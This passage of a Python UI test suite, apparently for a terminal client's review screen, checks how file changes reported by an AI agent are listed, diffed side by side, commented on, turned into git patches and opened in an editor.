        assert set(chosen[1:-1]) != set(plain)
        await it.press("K", "K")
        assert grounds("four") == plain


async def test_a_wrapped_line_is_marked_as_a_whole_and_has_one_sign_of_a_comment() -> None:
    state, session = states.opened()
    text = "one\n", f"{'long ' * 40}\n"
    session.writes.append(
        FileWrite(7, states.NOW, f"{states.CWD}/a.md", False, *text, has_backup=True)
    )

    def signs() -> list[str]:
        return [row[2] for row in it.screen.splitlines() if "long" in row and "Your" not in row]

    async with running(state) as it:
        await it.press("f7", "n", "down")
        assert set(signs()) == {"▌"}
        assert len(signs()) > 1
        assert [row.count("+") for row in it.screen.splitlines() if "↪" in row][:2] == [0, 0]
        await it.press("c")
        await it.write("x")
        await it.press("enter", "up")
        assert signs()[0] == "●"
        assert set(signs()[1:]) == {" "}
        await it.press("down", "down")
        assert "▌" in signs()  # there is no line after it


async def test_side_by_side_needs_room_and_two_sides() -> None:
    async with running(several_lines()) as it:
        await it.press("f7")
        assert "v side by side" not in it.screen
        await it.press("v")
        assert "side by side needs 100 columns; here are 80" in it.screen
        assert not any("two" in row and "TWO" in row for row in it.rows())
        await it.pilot.resize_terminal(120, 40)
        await it.press("n", "v")  # the list makes room
        assert any("two" in row and "TWO" in row for row in it.rows())
        # the title follows when no key was pressed for a moment
        await it.until(lambda: "─ a.md  change 1 of 1 ─" in it.screen)
        await it.pilot.resize_terminal(80, 24)
        await it.press()
        assert not any("two" in row and "TWO" in row for row in it.rows())
    state, _ = changed()
    async with running(state, (120, 40)) as it:
        await it.press("f7", "down", "down", "v")
        assert "there is only one side to show" in it.screen


async def test_turns_that_changed_nothing_are_passed() -> None:
    state, session = states.opened()
    for number in range(4):
        at = states.NOW - 40 + 10 * number
        session.entries.append(MessageEntry(Role.USER, at, blocks=[TextRun([f"turn {number}"])]))
        if number == 1:
            path = f"{states.CWD}/a.md"
            session.writes.append(FileWrite(7, at + 5, path, True, None, "x", has_backup=True))
    async with running(state) as it:
        await it.press("f7", "left_square_bracket")
        assert "Review: turn 2 of 4: turn 1" in it.screen
        await it.press("left_square_bracket")
        assert "no turn before this one changed a file" in it.screen
        await it.press("right_square_bracket", "right_square_bracket")
        assert "no turn after these changed a file" in it.screen
        assert "Review: reported changes, maybe not all" in it.screen
        assert "1 file ─╮" in it.screen


async def test_comments_that_need_more_room_than_there_is_are_gone_through() -> None:
    async with running(several_lines(), (80, 10)) as it:
        await it.press("f7", "tab")
        for words in ("first", "second", "third"):
            await it.press("c")
            await it.write(words)
            await it.press("enter", "down")
        await it.press("C")
        assert "▌a.md:2" in it.screen
        await it.press("up")  # round to the last one
        rows = it.screen.splitlines()
        assert "▌a.md:2" in rows[-4]
        assert "╰ third" in rows[-2]
        assert "first" not in it.screen
        await it.pilot.click(offset=(6, 3))
        assert [row[2:9] for row in it.rows() if "▌" in row] == ["▌a.md:3"]
        await it.press("down", "down")
        assert "▌a.md:2" in it.screen.splitlines()[1]
        assert "first" in it.screen


async def test_lines_are_marked_by_drawing_the_mouse_over_them() -> None:
    async with running(several_lines()) as it:
        await it.press("f7")
        rows = it.screen.splitlines()
        first, last = (
            next(y for y, row in enumerate(rows) if word in row) for word in ("two", "THREE")
        )
        await it.pilot.mouse_down(offset=(20, first))
        await it.pilot.hover(offset=(20, last))
        await it.pilot.mouse_up(offset=(20, last))
        await it.press("c")
        assert "Comment on these lines" in it.screen
        assert "a.md:2-3" in it.screen


async def test_all_comments_stand_on_one_page() -> None:
    state, _ = changed()
    async with running(state) as it:
        await it.press("f7", "C")
        assert "no comments yet" in it.screen
        for words in ("first", "second"):
            await it.press("tab", "down", "c")
            await it.write(words)
            await it.press("enter", "escape", "down", "down", "down")
        await it.press("C")
        assert "2 comments, not sent" in it.screen
        assert [row[2:-1].rstrip() for row in it.screen.splitlines()[1:8]] == [
            *("▌own.md", "     + its", "   ╰ first", ""),
            *(" notes.md:1", "   1 + two", "   ╰ second"),
        ]
        await it.press("e")
        await it.write(" words")
        await it.press("enter")
        assert "first words" in it.screen
        await it.press("d")
        assert "first words" not in it.screen
        assert "u brings it back" in it.screen
        await it.press("u")
        assert "2 comments, not sent" in it.screen
        await it.press("down", "enter")
        assert "Comments" not in it.screen
        assert "comment" in it.screen
        await it.until(lambda: any(row[2:3] == "▌" and "two" in row for row in it.rows()))
        await it.press("C", "w")
        assert it.prompt == "> own.md\n> +its\nfirst words\n\n> notes.md:1\n> +two\nsecond"
        assert it.asked == []


async def test_a_part_of_a_file_becomes_a_patch_only_if_git_finds_it(tmp_path: Path) -> None:
    state, session = states.opened()
    session.cwd = str(tmp_path)
    (tmp_path / "a.txt").write_text("".join(f"{number}\n" for number in range(30)))
    diff = Diff(path="a.txt", old_text="10\n11\n12\n", new_text="10\nnew\n12\n")
    entry = ToolCallEntry("t", states.NOW, status="completed", content=[diff], ended=states.NOW)
    session.entries.append(entry)
    async with running(state) as it:
        await it.press("f7", "n", "y")
        assert "not copied: git wouldn't find this" in it.screen
        place = EditLooked(1.0, "s", "t", diff.path, 0, line=11, new_line=11)
        entry.edits = EditFacts(1, {diff_key(diff): place})
        await it.press("escape", "escape", "f7", "n", "y")
        apply(tmp_path, it.app.clipboard)
    assert (tmp_path / "a.txt").read_text().splitlines()[9:14] == ["9", "10", "new", "12", "13"]


async def test_a_change_outside_of_the_folder_is_told_as_such(tmp_path: Path) -> None:
    state, session = states.opened()
    session.cwd = str(tmp_path / "work")
    file = tmp_path / "outside.txt"
    file.write_text("new\n")
    session.writes.append(
        FileWrite(7, states.NOW, str(file), False, "old\n", "new\n", has_backup=True)
    )
    async with running(state) as it:
        await it.press("f7", "n", "u")
        await it.until(lambda: "It is outside the session's folder." in it.screen)


async def test_enter_goes_into_the_diff_and_o_opens_the_editor(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    state, _ = changed()
    opened: list[str] = []
    async with running(state) as it:
        external = it.app.feature.external
        monkeypatch.setattr(external, "edit", lambda path, line: opened.append(path))
        await it.press("f7")
        assert "Enter diff" in it.screen
        await it.press("enter")
        assert "Tab files" in it.screen
        await it.press("enter")
        assert "o opens the file in the editor" in it.screen
        assert opened == []
        await it.press("o")
        assert opened == [f"{states.CWD}/own.md"]
        await it.press("escape")
        assert "Enter diff" in it.screen


@pytest.mark.parametrize("size", [(80, 24), (200, 60)])
async def test_where_nothing_changed_a_small_box_says_what_will_be_there(
    size: tuple[int, int],
) -> None:
    state, session = states.opened()
    async with running(state, size) as it:
        await it.press("f7")
        rows = it.screen.splitlines()
        top = next(at for at, row in enumerate(rows) if "Review" in row)
        bottom = next(at for at, row in enumerate(rows) if "Esc back" in row)
        assert (top, bottom) == (size[1] // 20, top + 2)
        assert "No change reported yet." in it.screen
        assert "maybe not all" not in rows[top]
        assert "0 files" not in rows[top]
        assert len(rows[top].strip()) <= 80
        diff = Diff(path="own.md", old_text="mine\n", new_text="its\n")
        session.entries.append(
            ToolCallEntry("t", 1.0, status="completed", content=[diff], ended=2.0)
        )
        await it.changed()
        await it.until(lambda: "- mine" in it.screen)
        assert "Review" in it.screen.splitlines()[0]


async def test_the_end_of_a_turn_counts_its_changes_and_leads_to_them() -> None:
    state, session = changed()
    session.entries.append(TurnEndEntry(states.NOW, states.NOW - 10, "end_turn"))
    async with running(state) as it:
        await it.until(lambda: "4 files changed (F7)" in it.screen)
        row = next(at for at, one in enumerate(it.rows()) if "(F7)" in one)
        column = list(it.rows())[row].index("(F7)")
        await it.press_at_once((column + 1, row))
        await it.until(lambda: "Review:" in it.screen)
